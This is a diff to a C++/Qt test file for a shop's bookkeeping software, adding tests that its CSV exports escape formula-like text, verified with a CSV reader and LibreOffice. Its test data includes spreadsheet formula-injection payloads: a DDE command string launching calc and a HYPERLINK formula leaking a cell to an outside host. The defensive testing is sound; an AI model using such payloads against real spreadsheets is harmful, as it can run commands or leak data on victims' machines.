@@ -1,6 +1,6 @@
 // The shop's books as the owner reads them: the day's takings against a day
 // counted by hand, sales paged newest first, receipts read back from the PDF,
-// and CSV files read back by a real CSV reader.
+// and CSV files read back by a real CSV reader and by LibreOffice.
 
 #include "support/Outside.h"
 #include "support/TestShop.h"
@@ -11,11 +11,17 @@
 #include "data/OrderStore.h"
 #include "data/Reports.h"
 #include "data/Settings.h"
+#include "reports/DayReport_frm.h"
 #include "reports/Receipt.h"
+#include "support/Controls.h"
 
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QPushButton>
+#include <QStandardPaths>
 #include <QTest>
+#include <QUrl>
+#include <QXmlStreamReader>
 
 #include <functional>
 
@@ -71,6 +77,56 @@ QList<QStringList> readCsv(const QString& path)
 }
 
 int adminCode(const QStringList& args) { return test::admin(args).code; }
+
+// What anyone may type at the counter that a spreadsheet takes for a formula,
+// whole or once split at a semicolon, a tab or a line break.
+QStringList formulaTexts()
+{
+    return texts({"=1+1", "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+886 2 1234", "-", "@SUM(A1)", "\t=1+1", "\r=1+1",
+                  "'=1+1", "x;=1+1", "a\r\n=1+1", "x\t@A1"});
+}
+QStringList formulaTeaNumbers() { return texts({"-5", "=2+3", "@A1", "+7"}); }
+const char* const kFormulaNote = "=cmd|' /C calc'!A0";
+
+struct Exported {
+    QString path;
+    QStringList numberColumns;
+};
+
+// A shop whose tea numbers, tea names, customers and a cash note are all such
+// texts, and its exports: the three of lumaro-admin and the day's journal from 日結.
+void exportFormulaShop(TestShop& shop, QList<Exported>& files)
+{
+    const QStringList names = formulaTexts();
+    const QStringList teas = formulaTeaNumbers();
+    for (qsizetype i = 0; i < teas.size(); ++i)
+        shop.tea(teas[i], names[i], 10, 12.5, 100);
+    shop.balances(1000, 0);
+    for (qsizetype i = 0; i < names.size(); ++i) {
+        const qlonglong o = shop.order(names[i]);
+        shop.line(o, teas[i % teas.size()], 2);
+        OrderStore::settleOrder(shop.db(), o);
+    }
+    money::adjust(shop.db(), Money::fromDouble(-50), QString::fromUtf8(kFormulaNote));
+
+    const QStringList journalNumbers = texts({"庫存變動", "單價", "現金變動", "銀行變動"});
+    for (const auto& [what, numbers] :
+         {std::pair{"catalogue", texts({"進價", "訂價", "庫存"})}, std::pair{"sales", texts({"公斤", "單價", "小計"})},
+          std::pair{"journal", journalNumbers}}) {
+        const QString path = shop.folder() + QStringLiteral("/%1.csv").arg(QLatin1String(what));
+        QCOMPARE(adminCode(
+                     {QStringLiteral("export"), QLatin1String(what), QStringLiteral("--database"), shop.path(), path}),
+                 0);
+        files << Exported{path, numbers};
+    }
+    PromptScope prompts;
+    DayReport_frm screen(shop.db());
+    const QString day = shop.folder() + QStringLiteral("/day.csv");
+    prompts->queueSaveFile(day);
+    control<QPushButton>(&screen, "cmdExport")->click();
+    QVERIFY(QFile::exists(day));
+    files << Exported{day, journalNumbers};
+}
 
 } // namespace
 
@@ -351,7 +407,114 @@ private slots:
         QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("teas"), QStringLiteral("--database"), shop.path(),
                             none}),
                  2);
+        const Run backwards = test::admin(
+            {QStringLiteral("export"), QStringLiteral("sales"), QStringLiteral("--from"), QStringLiteral("2024-02-01"),
+             QStringLiteral("--to"), QStringLiteral("2024-01-31"), QStringLiteral("--database"), shop.path(), none});
+        QCOMPARE(backwards.code, 2);
+        QVERIFY2(backwards.err.contains(QStringLiteral("2024-02-01 在 --to 的日期 2024-01-31 之後")),
+                 qPrintable(backwards.err));
         QVERIFY(!QFile::exists(none));
+
+        // A file made read-only is kept as it was, mode and all.
+        QVERIFY(QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther));
+        const Run readOnly = test::admin(
+            {QStringLiteral("export"), QStringLiteral("catalogue"), QStringLiteral("--database"), shop.path(), path});
+        QCOMPARE(readOnly.code, 1);
+        QVERIFY2(readOnly.err.contains(QStringLiteral("「%1」是唯讀的").arg(path)), qPrintable(readOnly.err));
+        QVERIFY(!(QFile::permissions(path) &
+                  (QFileDevice::WriteOwner | QFileDevice::WriteGroup | QFileDevice::WriteOther)));
+        QCOMPARE(readCsv(path).size(), 3);
+    }
+
+    // Text anyone can type never reaches a spreadsheet as a formula: in every
+    // export a text cell that would start one carries an apostrophe in front,
+    // which is all that was added, and amounts stay numbers, negatives included.
+    void csvCarriesNoFormula()
+    {
+        TestShop shop;
+        QList<Exported> files;
+        exportFormulaShop(shop, files);
+        if (QTest::currentTestFailed())
+            return;
+        QStringList shown; // text cells with one leading apostrophe taken off
+        QStringList negatives;
+        for (const Exported& e : files) {
+            const QList<QStringList> rows = readCsv(e.path);
+            QVERIFY2(rows.size() > 2, qPrintable(e.path));
+            for (const QStringList& r : rows.mid(1)) {
+                QCOMPARE(r.size(), rows[0].size());
+                for (qsizetype c = 0; c < r.size(); ++c) {
+                    const QString& cell = r[c];
+                    if (e.numberColumns.contains(rows[0][c])) {
+                        bool ok = cell.isEmpty();
+                        if (!ok)
+                            cell.toDouble(&ok);
+                        QVERIFY2(ok, qPrintable(e.path + QStringLiteral(": ") + cell));
+                        if (cell.startsWith(QLatin1Char('-')))
+                            negatives << cell;
+                        continue;
+                    }
+                    QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()),
+                             qPrintable(e.path + QStringLiteral(": ") + cell));
+                    shown << (cell.startsWith(QLatin1Char('\'')) ? cell.mid(1) : cell);
+                }
+            }
+        }
+        for (const QString& typed : formulaTexts() + formulaTeaNumbers() + QStringList{QString::fromUtf8(kFormulaNote)})
+            QVERIFY2(shown.contains(typed), qPrintable(typed));
+        QVERIFY(negatives.contains(QStringLiteral("-50")) && negatives.contains(QStringLiteral("-2")));
+    }
+
+    // The same files in LibreOffice, told to evaluate formulas and to split at
+    // commas, semicolons and tabs as its import does by default: no cell is a
+    // formula, and the amounts are numbers.
+    void csvInLibreOffice()
+    {
+        const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
+        if (soffice.isEmpty())
+            QSKIP("LibreOffice is not installed (Debian package libreoffice-calc-nogui)");
+        if (TestShop::onPostgres())
+            QSKIP("the same writer makes the file on either database; csvCarriesNoFormula reads it there");
+        TestShop shop;
+        QList<Exported> files;
+        exportFormulaShop(shop, files);
+        if (QTest::currentTestFailed())
+            return;
+        const QString out = shop.folder() + QStringLiteral("/calc");
+        QStringList args{QStringLiteral("-env:UserInstallation=") +
+                             QUrl::fromLocalFile(shop.folder() + QStringLiteral("/profile")).toString(),
+                         QStringLiteral("--headless"),
+                         QStringLiteral("--infilter=CSV:44/59/9,34,76,1,,0,false,true,false,false,false,-1,true"),
+                         QStringLiteral("--convert-to"),
+                         QStringLiteral("fods"),
+                         QStringLiteral("--outdir"),
+                         out};
+        for (const Exported& e : files)
+            args << e.path;
+        const Run calc = test::run(soffice, args);
+        QCOMPARE(calc.code, 0);
+        for (const Exported& e : files) {
+            QFile f(out + QLatin1Char('/') + QFileInfo(e.path).completeBaseName() + QStringLiteral(".fods"));
+            QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(f.fileName() + calc.said()));
+            QXmlStreamReader xml(&f);
+            int cells = 0;
+            QStringList numbers;
+            while (!xml.atEnd()) {
+                if (xml.readNext() != QXmlStreamReader::StartElement || xml.name() != QLatin1String("table-cell"))
+                    continue;
+                ++cells;
+                const QXmlStreamAttributes a = xml.attributes();
+                QVERIFY2(!a.hasAttribute(QStringLiteral("table:formula")),
+                         qPrintable(e.path + QStringLiteral(": ") +
+                                    a.value(QStringLiteral("table:formula")).toString()));
+                if (a.value(QStringLiteral("office:value-type")) == QLatin1String("float"))
+                    numbers << a.value(QStringLiteral("office:value")).toString();
+            }
+            QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
+            QVERIFY(cells > 20);
+            if (e.numberColumns.contains(QStringLiteral("現金變動")))
+                QVERIFY2(numbers.contains(QStringLiteral("-50")), qPrintable(numbers.join(QLatin1Char(' '))));
+        }
     }
 
     // Sales one row per line, and the journal, in a date range.
